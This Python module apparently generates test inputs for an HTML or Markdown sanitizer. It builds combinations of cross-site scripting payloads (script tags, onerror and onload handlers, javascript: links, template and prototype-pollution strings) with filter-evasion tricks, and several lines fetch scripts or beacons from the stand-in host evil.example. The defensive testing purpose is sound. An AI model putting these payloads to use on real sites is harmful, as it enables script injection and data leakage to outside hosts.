"""Text that wants to run, to fetch or to break out: as many different pieces as are asked for, always the same ones."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import islice, product

MOST = 1_000
ELSEWHERE = "evil.example"
_RUN = "window.__pwned=(window.__pwned||0)+1"

# `{run}` is script; the rest is what carries it.
_SHELLS = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>{run}</script>",
    "<img src=x onerror={run}>",
    '<img src="https://evil.example/pixel.png">',
    '<img srcset="//evil.example/a.png 1x">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    '<svg><use href="https://evil.example/i.svg#x"/></svg>',
    '<math><mtext><mglyph><style><img src=x onerror="{run}">',
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<marquee onstart={run}>",
    "<video><source onerror={run}>",
    '<audio src="//evil.example/a.mp3" onerror={run}>',
    '<iframe src="javascript:{run}"></iframe>',
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="javascript:{run}"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<link rel=prefetch href="https://evil.example/next">',
    "<style>@import url(//evil.example/x.css);*{{background:url(//evil.example/b)}}</style>",
    '<div style="background:url(https://evil.example/c);position:fixed;inset:0">over all</div>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><button autofocus>Confirm</button></form>',
    '<a href="javascript:{run}">click</a>',
    '<a href="https://evil.example/" ping="https://evil.example/ping">link</a>',
    "[click](javascript:{run})",
    "[click](<java\tscript:{run}>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox)",
    "![pixel](https://evil.example/pixel.png)",
    "![pixel][ref]\n\n[ref]: https://evil.example/ref.png",
    "[![pixel](//evil.example/p.png)](javascript:{run})",
    "<javascript:{run}>",
    "<https://evil.example/auto>",
    "```html\n<script>{run}</script>\n```",
    "`<img src=x onerror={run}>`",
    "| a | <img src=x onerror={run}> |\n|---|---|\n| ![p](//evil.example/t) | [x](javascript:{run}) |",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "<%= {run} %>",
    "#{{{run}}}",
    "'-({run})-'",
    '"-({run})-"',
    '"><img src=x onerror={run}>',
    "'><svg/onload={run}>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "</textarea></title></style><script>{run}</script>",
    "x<!--<img src=x onerror={run}>",
    "<img src=x onerror={run}//",
    "<<script>{run}//<</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    '{{"__proto__":{{"innerHTML":"<img src=x onerror={run}>"}}}}',
    "data:text/html,<script>{run}</script>",
    "javascript:{run}",
)
_SCRIPTS = (
    _RUN,
    "parent.__pwned=1",
    "fetch('https://evil.example/f')",
    "new(Image)().src='//evil.example/i'",
    "alert(1)",
)
_TWISTS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.replace("<script", "<ScRiPt").replace("onerror", "OnErRoR").replace("javascript", "JaVaScRiPt"),
    lambda text: text.replace(" on", "\non").replace("<script", "<script\n"),
    lambda text: text.replace("<", "&lt;").replace("javascript:", "javascript&colon;"),
    lambda text: text.replace("<", "\u200b<").replace("script", "scr\u00adipt"),
    lambda text: text.replace("<", "＜") + "\u202e" + text,
    lambda text: "> " + text.replace("\n", "\n> "),
    lambda text: "- " + text.replace("\n", "\n  "),
    lambda text: "A" * 300 + text,
)


@dataclass(frozen=True, slots=True)
class Payload:
    """A piece of hostile text; where `mark` is read on the page, the piece was drawn."""

    mark: str
    text: str

    @property
    def line(self) -> str:
        """In one line: behind a mark, a fence would not be closed where it seems to be."""
        return f"{self.mark} {self.text}".replace("\n", " ")

    @property
    def paragraphs(self) -> str:
        """Standing alone, so that it may begin a block of its own."""
        return f"{self.mark}\n\n{self.text}\n\n"


def payloads(count: int = MOST) -> list[Payload]:
    return [Payload(f"hp{number:04}x", text) for number, text in enumerate(islice(_texts(), count))]


def _texts() -> Iterator[str]:
    """One that is huge; then every shell with every twist and script."""
    twisted = (twist(shell.format(run=script)) for script, twist, shell in product(_SCRIPTS, _TWISTS, _SHELLS))
    return iter(dict.fromkeys(["A" * 20_000, *twisted]))
